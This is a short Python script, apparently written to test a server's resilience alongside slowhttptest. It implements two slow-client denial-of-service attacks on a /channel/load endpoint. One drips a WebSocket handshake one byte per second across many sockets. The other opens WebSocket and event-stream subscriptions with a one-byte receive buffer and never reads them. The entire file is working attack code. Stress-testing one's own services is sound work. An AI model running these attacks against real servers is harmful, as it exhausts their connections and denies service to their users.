"""Attackers that slowhttptest does not have: `attackers.py handshakes|windows HOST:PORT COUNT SECONDS`.

`handshakes` opens WebSockets and sends a byte of each opening handshake a second. `windows` subscribes, half of them
over WebSocket and half as event streams, to what is kept and what is new, and reads nothing.
"""

import socket
import sys
import time

HANDSHAKE = (
    "GET /channel/load?since=earliest HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
).encode()
EVENTS = b"GET /channel/load?since=earliest HTTP/1.1\r\nHost: localhost\r\nAccept: text/event-stream\r\n\r\n"


def connect(address):
    stream = socket.socket()
    # As little as the kernel allows.
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
    stream.connect(address)
    return stream


def handshakes(address, count, seconds):
    streams = [connect(address) for _ in range(count)]
    begun = time.monotonic()
    for index in range(seconds):
        for number, stream in enumerate(streams):
            # Each at its own moment of the second.
            if number % 20 == 0:
                time.sleep(max(0, begun + index + number / count - time.monotonic()))
            try:
                stream.send(HANDSHAKE[index : index + 1])
            except OSError:
                # The server has had enough of it.
                pass


def windows(address, count, seconds):
    streams = [connect(address) for _ in range(count)]
    for index, stream in enumerate(streams):
        stream.sendall(HANDSHAKE if index % 2 else EVENTS)
    time.sleep(seconds)


if __name__ == "__main__":
    attack, at, many, length = sys.argv[1:]
    host, port = at.split(":")
    {"handshakes": handshakes, "windows": windows}[attack]((host, int(port)), int(many), int(length))
